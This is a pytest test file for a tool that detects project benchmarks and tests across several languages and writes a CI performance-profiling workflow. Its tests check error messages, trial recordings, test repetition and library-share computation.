    found = candidates(Files(str(top)), RECIPES[-1], build=True)
    assert found[0].command == command
    assert found[0].setup[0].endswith(line)


DEEP = "a_bench: ../a.c\n\tcc $< -o $@\n"


def test_programs_are_those_that_make_builds(tmp_path: Path) -> None:
    rules = [
        "all: $(OUT)/my_bench\n\t$(MAKE) -C ../tools",
        ".PHONY: bench test check",
        "bench:\n\t./run -o x",
        "test: ../a.c\n\tcc -c $< -o a.o\n\tcc a.o -o out/$@\n\t./out/$@",
        "check: ../a.c\n\tcc $< -o check_test\n\t./check_test",
        "$(OUT)/my_bench: ../a.c\n\tcc $< -o $@",
    ]
    committed(tmp_path, {"src/makefile": "OUT = bin\n" + "\n".join(rules) + "\n", "a.c": MAIN, "tools/Makefile": DEEP})
    found = candidates(Files(str(tmp_path)), RECIPES[-1], build=True)
    assert {each.command: each.setup[0].split()[2] for each in found} == {
        "src/bin/my_bench": "src",
        "src/out/test": "src",
        "src/check_test": "src",
        "tools/a_bench": "tools",
    }


OTHER_CODE = "let s = 0;\nfor (let i = 0; i < 2e8; i++) s += Math.sqrt(i);\n"
THREADS = 'for (let i = 0; i < 4; i++) new (require("worker_threads").Worker)("while (true);", { eval: true });\n'
UNBUILT = {"package.json": "{}", "bench/a.js": 'require("../dist/main.js");\n'}
SUM = "node bench/sum.js"


@needs_node
@pytest.mark.parametrize(
    ("files", "command", "install", "limit", "message"),
    [
        (UNBUILT, "", "nothing", {}, "add the build to --install"),
        (NODE | {"bench/sum.js": OTHER_CODE}, "", "nothing", {}, "only 0 % of the samples"),
        (NODE, SUM, "true && sleep 9", {"WAITING": 0.001}, "took longer than 0.24 s: + sleep 9"),
        (NODE, SUM, "true", {"LONGEST_RUN": 0.01}, "took too long: let the command"),
        (NODE | {"bench/sum.js": THREADS}, SUM, "true", {"LONGEST_RUN": 0.5}, "took too long: let the command"),
        (NODE, SUM, "true", {"LARGEST_RECORDING": 100}, "do less work"),
        ({"go.mod": "x"}, "true -benchtime 10x", "nothing", {}, "contains no samples"),
        ({"package.json": "x"}, "none.js", "nothing", {}, "Cannot find module"),
        ({"pom.xml": "x"}, "true", "nothing", {}, "ended with exit code"),
    ],
)
def test_failed_trial_still_writes_the_workflow(
    files: dict[str, str],
    command: str,
    install: str,
    limit: dict[str, float],
    message: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for name, value in limit.items():
        monkeypatch.setattr(trial, name, value)
    words = ["--command", command] if command else []
    assert main(["init", str(committed(tmp_path, files)), "--yes", "--measure", "--install", install, *words]) == 2
    shown = capsys.readouterr().err
    lines = written(tmp_path).read_text().splitlines()
    (number,) = [number for number, line in enumerate(lines, 1) if "# TODO: " in line]
    assert message in shown
    assert f"performance.yml:{number}: " in shown
    assert command or " runs of " not in "".join(lines)  # the samples of another program


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({"package.json": "{}"}, "no benchmark was found"),
        ({"CMakeLists.txt": "add_executable(my_bench a.cc)\n"}, "only the build system knows"),
    ],
)
def test_missing_benchmark_is_an_open_line(
    files: dict[str, str], message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init", str(made(tmp_path, files)), "--yes"]) == 2
    assert message in capsys.readouterr().err
    assert shell_of(tmp_path)["RECORD"].startswith(f"# TODO: {message}")
    assert shell_of(tmp_path)["RECORD"].endswith("exit 1\n") == ("CMakeLists.txt" in files)
    linted(written(tmp_path))


CALLS = "import { total } from '../lib/cart.mjs';\ntotal(3);"
UNMEASURED = {
    "Python": {"setup.py": SETUP, "shop/cart.py": "", "test/cart.py": "from shop.cart import total\nassert total(3)\n"},
    "Node": {"package.json": "{}", "lib/cart.mjs": "", "test/a.mjs": CALLS},
    "Go": {"go.mod": "module x\n", "cart.go": "package shop\n"},
    "Rust": {"Cargo.toml": CARGO, "src/shop.rs": "", "tests/a.rs": "use shop::total;\nfn a() { total(3); }\n"},
    "Java": {"pom.xml": "<project/>", "src/main/java/Cart.java": ""},
}


@pytest.mark.parametrize("files", UNMEASURED.values(), ids=UNMEASURED)
def test_benchmark_to_be_completed_is_written(files: dict[str, str], tmp_path: Path) -> None:
    before = set(made(tmp_path, files).rglob("*.*"))
    assert main(["init", str(tmp_path), "--yes"]) == 2
    (new,) = (path for path in set(tmp_path.rglob("*.*")) - before if ".github" not in str(path))
    path, text = new.relative_to(tmp_path).as_posix(), new.read_text()
    assert path in shell_of(tmp_path)["RECORD"].partition("\n")[0]
    assert ("total(3)" in text) == any("total" in each for each in files.values())
    assert f"complete {path}" in text


def test_instructions_are_a_skill(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["init", "--skill"]) == 0
    shown = capsys.readouterr().out
    assert set(yaml.safe_load(shown.split("---")[1])) == {"name", "description"}
    assert "profgate init --check" in shown


@needs_node
@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({}, ""),
        ({"bench/sum.js": "require('./new.js')"}, "records"),
        ({"bench/sum.js": "for (let i = 0; i < 3e8; i++);"}, "in functions"),
    ],
)
def test_written_workflow_is_checked(
    change: dict[str, str],
    problem: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(trial, "FEW_SAMPLES", 10)
    top = committed(tmp_path, NODE)
    assert main(["init", str(top), "--yes", "--install", "nothing"]) == 0
    made(top, change | {"bench/new.js": NODE["bench/sum.js"]})
    assert main(["init", str(top), "--check"]) == (2 if problem else 0)
    shown = capsys.readouterr()
    rows = [line.split(" | ") for line in shown.out.splitlines() if " | " in line]
    assert [len(row) for row in rows] == [3] * (2 if problem == "records" else 7)
    assert (problem in shown.out, bool(shown.err)) == (True, bool(problem))
    assert ("git add bench/new.js" in shown.err) == (problem == "records")


def test_check_accepts_a_run_that_takes_longer_than_for_init(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    limits = list[tuple[float, bool]]()

    def run(self: trial.Copies, what: str, *given: Any) -> tuple[float, str]:
        if what == "the recording":
            limits.append((given[3], self.left >= 5 * given[3]))
            raise ProfgateError("the recording", "ends here")
        return 0.1, ""

    monkeypatch.setattr(trial.Copies, "run", run)
    top = committed(tmp_path, BENCHMARKS["Go"])
    assert main(["init", str(top), "--yes"]) == 0
    assert main(["init", str(top), "--check"]) == 2
    assert limits == [(2 * trial.LONGEST_RUN, True)]


def test_check_needs_a_written_workflow(tmp_path: Path) -> None:
    assert main(["init", str(made(tmp_path, BENCHMARKS["Python"])), "--check"]) == 2


@pytest.mark.parametrize(
    ("name", "module", "share"),
    [
        ("shop::Cart<std::vector<int> >::add", "/checkout/build/t", 1.0),
        ("void shop::sum<int>", "/checkout/build/t", 1.0),
        ("shop::(anonymous namespace)::parse", "/checkout/build/t", 1.0),
        ("sum_all", "/checkout/build/t", 1.0),
        ("memcpy", "/usr/lib/libc.so.6", 0.0),  # only called
        ("std::vector<shop::Cart>::push_back", "/checkout/build/t", 0.0),
        ("doctest::Context::run", "/checkout/build/t", 0.0),  # has the name of a method of the library
        ("(anonymous namespace)::helper", "/checkout/build/t", 0.0),
        ("farm::parse::tests::all", "/checkout/target/t", 0.0),
        ("<farm::Parser as core::iter::Iterator>::next", "/checkout/target/t", 1.0),
    ],
)
def test_share_counts_functions_of_the_library(name: str, module: str, share: float, tmp_path: Path) -> None:
    header = "namespace shop { struct Cart { void run(); }; }\nint sum_all(int *a) { memcpy(a, a, 1); }\n"
    tests = {"tests/a.cc": "struct doctest {}; void helper() {}\n", "Cargo.toml": '[package]\nname = "farm"\n'}
    top = committed(tmp_path / "a", {"include/shop.hpp": header} | tests)
    made(tmp_path / "b", {"run-1.perf": f"t 1 1.0: 1 cycles:\n\t1 {name}+0x1 ({module})\n\t2 main+0x2 ({module})\n\n"})
    recorded = read_sources(sources_under(str(tmp_path / "b")))
    assert share_of(recorded, Files(str(top)), "/checkout", 1).library == share


@needs_node
@pytest.mark.parametrize("command", ["node bench/new.js", "node bench/it.js"])
def test_needed_files_that_git_does_not_track_are_named(
    command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    top = committed(tmp_path, NODE | {"bench/it.js": "require('./new.js');\n", ".gitignore": "old.js\n"})
    made(top, {"bench/new.js": NODE["bench/sum.js"], "bench/other.js": "", "bench/old.js": ""})
    assert main(["init", str(top), "--yes", "--measure", "--command", command, "--install", "nothing"]) == 2
    assert "git add bench/new.js)" in capsys.readouterr().err


def test_benchmark_is_a_file_of_this_repository(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The checkout of a workflow contains neither the files of a submodule nor those that git does not track."""
    top = committed(tmp_path, {"package.json": "{}"})
    made(top, {"inner/.git": "gitdir: ../other", "inner/bench/a.js": ""})
    assert main(["init", str(top), "--yes"]) == 2
    made(top, {"bench/b.js": ""})
    assert main(["init", str(top), "--yes", "--replace"]) == 0
    shown = capsys.readouterr().out
    assert "Records: node bench/b.js" in shown
    assert "git add bench/b.js)" in shown


@needs_node
def test_command_that_works_is_chosen(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    nested = {f"inner/{path}": text for path, text in NODE.items()}
    committed(tmp_path, NODE | nested | {"bench/bench.js": "throw new Error('no data')\n"})
    assert main(["init", str(tmp_path), "--yes", "--measure", "--install", "nothing"]) == 0
    assert "Trial recording of node bench/bench.js failed" in capsys.readouterr().out
    assert shell_of(tmp_path)["RECORD"].endswith(" bench/sum.js\n")


@needs_node
def test_number_of_iterations_follows_the_samples(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(trial, "samples_of", lambda _: 200.0)
    work = "const n = Number(process.argv[3]);\nfor (let i = 0; i < n; i++) sum(1e6);\n"
    committed(tmp_path, NODE | {"bench/sum.js": f"const sum = require('../lib/sum.js');\n{work}"})
    words = ["--command", "node bench/sum.js --loops 1", "--install", "nothing"]
    assert main(["init", str(tmp_path), "--yes", "--measure", *words]) == 0
    (loops,) = re.findall(r"--loops (\d+)\n", shell_of(tmp_path)["RECORD"])
    assert int(loops) > 10


@pytest.mark.parametrize(
    ("output", "problem"),
    [
        ("a\nModuleNotFoundError: No module named 'lark'\n", "No module named 'lark' (add what installs lark to --"),
        ("node:1\n  x\n\nError: Cannot find module '../lib/a.js'\nat b\n", "'../lib/a.js' (if a build writes ../"),
        ("x\nmain module (a) does not contain package b\nFAIL\n", "main module (a) does not contain package b"),
        ("Traceback:\n  File x\nValueError: bad ${{ x }}\nend\n", "ValueError: bad $ {{ x }}"),
        ("-- a - not found\nCMake Error at a:3 (b):\n\n  The source b\n", "CMake Error at a:3 (b): The source b"),
        ("make: Entering a\nmake: *** No rule to make x.  Stop.\nmake: Leaving a\n", "make: *** No rule to make x"),
        ("+ gradle test\nsh: 1: gradle: not found\n", "sh: 1: gradle: not found (install gradle here, or add what"),
        ("\x1b[0m\x1b[31mfatal: a\x1b[0m\n", "fatal: a"),
        ("test/http-error.ts:218:4\nx: error TS1: bad\n", "x: error TS1: bad"),
        ("E   KeyError: 1\n\nE   ImportError: no parent\n", "E ImportError: no parent"),
        ("one\ntwo\n\n", "two"),
        ("", ""),
    ],
)
def test_line_that_names_the_problem_is_shown(output: str, problem: str) -> None:
    assert problem in problem_in(output)


def test_package_of_a_monorepo_is_recorded_in_its_folder(tmp_path: Path) -> None:
    package = {"package.json": '{"workspaces": ["packages/*"]}', "package-lock.json": "{}", "bench/a.js": ""}
    inner = {f"packages/{name}/{path}": text for name in "ab" for path, text in NODE.items()}
    committed(tmp_path, package | inner)
    assert main(["init", str(tmp_path / "packages" / "b"), "--yes"]) == 0
    assert not (tmp_path / "packages" / "b" / ".github").exists()
    shell = shell_of(tmp_path)
    assert shell["SETUP"] == "npm ci\n"
    assert shell["RECORD"].startswith("cd packages/b\nnode --cpu-prof")
    assert '"$PROFGATE_OUT/packages-b/run-$PROFGATE_RUN"' in shell["RECORD"]


OLD = (PROJECTS / "old_workflow.yml").read_text()


def test_test_job_of_the_repository_is_the_pattern(tmp_path: Path) -> None:
    made(tmp_path, BENCHMARKS["Python"] | {".github/workflows/ci.yml": OLD})
    assert main(["init", str(tmp_path), "--yes"]) == 0
    job = job_of(tmp_path)
    options = {"python-version": "3.13"}
    assert job["steps"][1] == {"uses": "actions/setup-python@v6", "with": options}
    lines = shell_of(tmp_path)["SETUP"].splitlines()
    assert lines[0] == "git submodule update --init --recursive"
    prepared = {"name": "Prepare the machine", "run": "sudo apt-get update && sudo apt-get install -y libxml2-dev\n"}
    for each in (job, jobs_of(tmp_path)["confirm"]):
        assert prepared in each["steps"]


TESTED = {
    "requirements.txt": "other\n",
    "pytest.ini": "[pytest]\nfilterwarnings = error\n",
    "shop/__init__.py": "",
    "shop/cart.py": "def total(n):\n    return sum(i * i for i in range(n))\n",
    "tests/test_cart.py": """\
import time
import unittest
import warnings
import pytest
from shop.cart import total
KNOWN = []
def test_frozen(monkeypatch):
    monkeypatch.setattr(time, "perf_counter", lambda: 5.0)
    assert total(100) > 0
@pytest.mark.parametrize("n", [100, 200])
def test_total(n):
    assert total(n) > 0
def test_once(tmp_path):
    (tmp_path / "made").mkdir()
class CartTest(unittest.TestCase):
    def setUp(self):
        self.n = 50
    def test_case(self):
        self.assertEqual(total(self.n), 40425)
unittest.main()
warnings.warn("old")
def test_failing():
    assert total(3) == 1
""",
}


MAINS = {  # the program is repeated in one process, or in one for each call, or fails
    "returns": "puts(text); return 0;",
    "ends the process": "puts(text); exit(0);",
    "runs once": "if (runs++) return 1; puts(text); return 0;",
    "fails": "puts(text); return 3;",
}


@pytest.mark.skipif(shutil.which("cc") is None, reason="a compiler is not installed")
@pytest.mark.parametrize("body", MAINS.values(), ids=MAINS)
def test_main_function_is_called_several_times(body: str, tmp_path: Path) -> None:
    includes = "#include <stdio.h>\n#include <stdlib.h>\n#include <unistd.h>\n"
    main_function = f'static int runs;\nint main(void) {{ char text[9]; sprintf(text, "%d", getpid()); {body} }}\n'
    made(tmp_path, {"a.c": includes + main_function})
    tree = Files(str(made(tmp_path, {"Makefile": ""})))
    (plan,) = plans(tree, ".", detected(tree), Options(command="./a"))
    repeated = plan.with_work(5)
    made(tmp_path, repeated.benchmark.new_files)
    _, build, record, _ = repeated.record
    command = record.partition(" -- ")[2]
    assert command.startswith("env LD_PRELOAD=bench/repeat.c.so REPEATS=5 ")
    lines = f"cc a.c -o a\n{build}\n{command}"
    done = subprocess.run(["sh", "-ec", lines], cwd=tmp_path, check=False, capture_output=True, text=True)
    calls = done.stdout.split()
    assert (done.returncode, len(calls)) == ((3, 1) if "return 3" in body else (0, 5))
    assert (len(set(calls)) == 1) == ("return 3" in body or body == MAINS["returns"])


SLOW_TEST = "benchmarks/repeated_tests.txt"


def test_tests_that_hardly_call_the_library_are_removed(tmp_path: Path) -> None:
    tree = Files(str(committed(tmp_path, TESTED | {"shop/sum.h": "int sum_all(void);\n"})))
    (first, *_) = plans(tree, ".", detected(tree), Options(measure=True))
    rows = [f"2 tests/test_cart.py::{name}\n" for name in ("test_total", "CartTest::test_case", "test_other")]
    plan = first.changed(new_files={**first.benchmark.new_files, SLOW_TEST: "".join(rows)})
    stacks = {"test_total;sum_all": 40, "test_total;sleep": 20, "test_case;sleep": 300}
    made(tmp_path / "out", {"a.folded": "".join(f"{stack} {count}\n" for stack, count in stacks.items())})
    names = [workflow.name_of(row) for row in plan.tests]
    share = share_of(read_sources(sources_under(str(tmp_path / "out"))), tree, "/checkout", 1, names)
    assert (share.samples, round(share.library, 3)) == (360, 0.111)
    assert {name: round(value, 3) for name, value in share.tests.items()} == {
        "test_total": 0.667,
        "test_case": 0.0,
        "test_other": 0.0,
    }
    fewer = trial._adjusted(trial.Trial(plan, share, 1.0))
    assert fewer.tests == rows[:1]
    assert fewer.with_work(3).tests == ["6 tests/test_cart.py::test_total\n"]


@pytest.mark.full
def test_tests_are_repeated_when_there_is_no_benchmark(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTEST_DISABLE_PLUGIN_AUTOLOAD", "1")  # the plugins of this environment take seconds to import
    committed(tmp_path, TESTED)
    with_pytest = (
        f"python -c \"import sys; open(sys.prefix + '/lib/{PYTHON}/site-packages/a.pth', 'w').write('{PACKAGES}')\""
    )
    code = main(["init", str(tmp_path), "--yes", "--measure", "--install", with_pytest])
    shown = capsys.readouterr()
    assert code == 0, shown.out + shown.err
    assert shell_of(tmp_path)["RECORD"].count("benchmarks/repeated_tests.py") == 2
    rows = (tmp_path / "benchmarks" / "repeated_tests.txt").read_text().splitlines()
    assert [row.split(" ")[1] for row in rows] == [
        "tests/test_cart.py::test_frozen",
        "tests/test_cart.py::test_total",
        "tests/test_cart.py::CartTest::test_case",
    ]
    assert all(int(row.split(" ")[0]) > 100 for row in rows)


def test_tests_with_many_cases_are_not_repeated(tmp_path: Path) -> None:
    """Each case is measured, which would take minutes."""
    case = "@pytest.mark.parametrize('n', range({}))\ndef test_{}(n): sum(range(9000))\n"
    tests = "import pytest\n" + case.format(2, "few") + case.format(21, "many")
    script = render_template("init/repeated_tests.py.j2").replace("WHOLE = 2.5", "WHOLE = 0.2")
    made(tmp_path, {"test_it.py": tests, "repeated_tests.py": script})
    subprocess.run([sys.executable, "repeated_tests.py", "--update"], cwd=tmp_path, check=True)
    assert [row.split("::")[1] for row in (tmp_path / "repeated_tests.txt").read_text().splitlines()] == ["test_few"]


PLUGIN = """\
import pytest
class BenchmarkFixture:
    def __call__(self, function, *words):
        raise AssertionError("runs for a fixed time")
@pytest.fixture
def benchmark():
    return BenchmarkFixture()
def pytest_runtest_makereport(item):
    assert isinstance(item.funcargs.get("benchmark", BenchmarkFixture()), BenchmarkFixture)
"""


def test_benchmarks_of_pytest_are_repeated_a_fixed_number_of_times(tmp_path: Path) -> None:
    bench = "def test_a(benchmark): assert benchmark(sum, [1]) == 1\n"
    bench += "def test_b(benchmark): benchmark.pedantic(sum, ([1],))\n"
    files = {"requirements.txt": "pytest-benchmark\n", "bench/test_a.py": bench, "bench/test_b.py": bench}
    recipe, whole = RECIPES[0], Files(str(made(tmp_path, files | {"test_other.py": "def test_c(): pass\n"})))
    (new,) = repeated_tests(whole, candidates(whole, recipe), Kind.BENCHMARK)
    assert new.update.endswith(" --update --benchmark-only bench/test_a.py bench/test_b.py")
    short = {name: text.replace("WHOLE = 2.5", "WHOLE = 0.2") for name, text in new.new_files.items()}
    made(tmp_path, {**short, "conftest.py": PLUGIN})
    for words in (new.update, new.command):
        subprocess.run([sys.executable, *words.split()[1:]], cwd=tmp_path, check=True)
    rows = (tmp_path / "benchmarks" / "repeated_tests.txt").read_text().splitlines()
    assert [row.split("/")[1] for row in rows] == [f"test_{x}.py::test_{y}" for x in "ab" for y in "ab"]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (("test_b", "test_c"), "a test that does not exist"),
        (("def test_b", "@pytest.mark.skip\ndef test_b"), "tests that were not repeated: test_it.py::test_b"),
        (("", ""), ""),
    ],
)
def test_listed_tests_of_python_must_run(change: tuple[str, str], message: str, tmp_path: Path) -> None:
    tests = "import pytest\ndef test_a(): pass\ndef test_b(): pass\n"
    script = render_template("init/repeated_tests.py.j2")
    rows = "2 test_it.py::test_a\n2 test_it.py::test_b\n"
    files = {"test_it.py": tests.replace(*change), "repeated_tests.py": script, "repeated_tests.txt": rows}
    made(tmp_path, files)
    run = [sys.executable, "repeated_tests.py"]
    done = subprocess.run(run, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert (done.returncode, message in done.stderr) == (bool(message), True), done.stdout + done.stderr
    assert ("error: repeated_tests.txt lists" in done.stderr) == bool(message)


@needs_node
@pytest.mark.parametrize(
    ("change", "message"),
    [
        (("test_b", "test_c"), 'tests that did not run: "test_b"'),
        (("test('test_b'", "test.skip('test_b'"), 'tests that did not run: "test_b"'),
        (("=> {}", "=> { require('node:child_process').fork('x.cjs'); }"), ""),
        (("test('test_b', () => {", "let n = 0; test('test_b', () => { if (n++) throw n;"), ""),
        (("", ""), ""),
    ],
)
def test_listed_tests_of_node_must_run(change: tuple[str, str], message: str, tmp_path: Path) -> None:
    tests = "const test = require('node:test');\ntest('test_a', () => {});\ntest('test_b', () => {});\n"
    script, rows = render_template("init/repeated-tests.mjs.j2"), '2 "test_a"\n2 "test_b"\n'
    files = {"test.js": tests.replace(*change), "bench/repeated-tests.mjs": script, "bench/repeated-tests.txt": rows}
    made(tmp_path, files | {"x.cjs": ""})
    run = ["node", "bench/repeated-tests.mjs"]
    done = subprocess.run(run, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert (done.returncode, message in done.stderr) == (bool(message), True), done.stdout + done.stderr
    assert ("error: repeated-tests.txt lists" in done.stderr) == bool(message)


NODE_PROJECT = PROJECTS / "node"
TESTED_NODE = {path.relative_to(NODE_PROJECT).as_posix(): path.read_text() for path in NODE_PROJECT.rglob("*.*")}


@needs_node
def test_tests_of_node_are_repeated_in_one_process(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    short = render_template("init/repeated-tests.mjs.j2").replace("WHOLE = 2.5", "WHOLE = 0.4")
    monkeypatch.setattr(new_benchmarks, "render_template", lambda _: short)
    monkeypatch.setattr(trial, "samples_of", lambda _: 200.0)
    script = {"scripts": {"test": "node -r ./lib/sum.js --test 'test/**/*.js'"}}
    committed(tmp_path, TESTED_NODE | {"package.json": json.dumps(script)})
    assert main(["init", str(tmp_path), "--yes", "--measure", "--install", "nothing"]) == 0, capsys.readouterr()
    rows = (tmp_path / "bench" / "repeated-tests.txt").read_text().splitlines()
    assert [row.split(" ", 1)[1] for row in rows] == ['"sums"', '"needs its context"', '"waits for a result"']
    assert shell_of(tmp_path)["RECORD"].endswith('/run-$PROFGATE_RUN" -r ./lib/sum.js bench/repeated-tests.mjs\n')


COMPILER = "exports.transpileModule = (text) => ({ outputText: text.replace(/: number|, type Mock/g, '') });\n"
RUNNERS = sorted((PROJECTS / "runners").iterdir())  # tests that pass once, and a test that is not repeated


@needs_node
@pytest.mark.parametrize("tests", quick_first(RUNNERS, 3), ids=lambda path: path.name)
def test_tests_of_other_tools_run_without_them(tests: Path, tmp_path: Path) -> None:
    load = "const sum = require('./sum.cjs');\n" if tests.suffix == ".cjs" else "import sum from './sum.cjs';\n"
    script = render_template("init/repeated-tests.mjs.j2").replace("WHOLE = 2.5", "WHOLE = 0.1")
    files = {
        "sum.cjs": TESTED_NODE["lib/sum.js"],
        f"a.test{tests.suffix}": load + tests.read_text(),
        "bench/it.mjs": script,
    }
    files["node_modules/typescript/index.js"] = COMPILER
    run = ["node", "bench/it.mjs"]
    subprocess.run([*run, "--update"], cwd=made(tmp_path, files), check=True)
    rows = (tmp_path / "bench" / "it.txt").read_text().splitlines()
    assert [row.split(" ", 1)[1][1] for row in rows] == ["a", "b"]
    subprocess.run(run, cwd=tmp_path, check=True)


TESTED_JAVA = {f"src/{path.name}": path.read_text() for path in (PROJECTS / "java" / "src").iterdir()}


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("javac") is None, reason="javac is not installed")
def test_tests_of_java_are_repeated_in_one_process(tmp_path: Path) -> None:
    made(tmp_path, TESTED_JAVA | {"bench/RepeatedTests.java": render_template("init/RepeatedTests.java.j2")})
    sources = [str(path) for path in sorted((tmp_path / "src").iterdir())]
    subprocess.run(["javac", "-d", "target/test-classes", *sources], cwd=tmp_path, check=True)
    run = ["java", "-cp", "target/test-classes", "bench/RepeatedTests.java"]
    for more in ([*run, "--update"], run):
        subprocess.run(more, cwd=tmp_path, check=True)
    count, name, *others = (tmp_path / "bench" / "RepeatedTests.txt").read_text().split()
    assert (name, others[1:]) == ("CartTest#total", ["WholeTest#once"])
    assert int(count) > 1
    for missing in ("CartTest#renamed", "Renamed#total"):
        (tmp_path / "bench" / "RepeatedTests.txt").write_text(f"1 {missing}\n")
        done = subprocess.run(run, cwd=tmp_path, capture_output=True, text=True, check=False)
        assert (done.returncode, f"lists a test that does not exist: {missing}" in done.stderr) == (1, True)


def test_progress_is_written_before_the_trial_ends(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    top, shown, seen = committed(tmp_path / "top", {"Makefile": ""}), tmp_path / "shown", tmp_path / "seen"
    with shown.open("w") as stream:
        monkeypatch.setattr(sys, "stdout", stream)
        main(["init", str(top), "--yes", "--measure", "--command", "./a", "--install", f"cp {shown} {seen} && false"])
    assert "Setting up and recording ./a" in seen.read_text()


class Typed(io.StringIO):
    """Answers that are typed at a terminal."""

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(("answer", "code"), [("\n", 0), ("y\n", 0), ("no\n", 2)])
def test_files_are_written_after_a_yes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], answer: str, code: int
) -> None:
    made(tmp_path, {"setup.py": SETUP, "bench/a.py": "", "bench/b.py": "", ".github/workflows/ci.yml": CI})
    monkeypatch.setattr(sys, "stdin", Typed(answer))
    assert main(["init", str(tmp_path)]) == code
    assert "Records: python bench/a.py (bench/a.py).\n" in capsys.readouterr().out
    assert written(tmp_path).exists() == (not code)
    if not code:
        assert called_with(tmp_path)["python"] == "3.12"
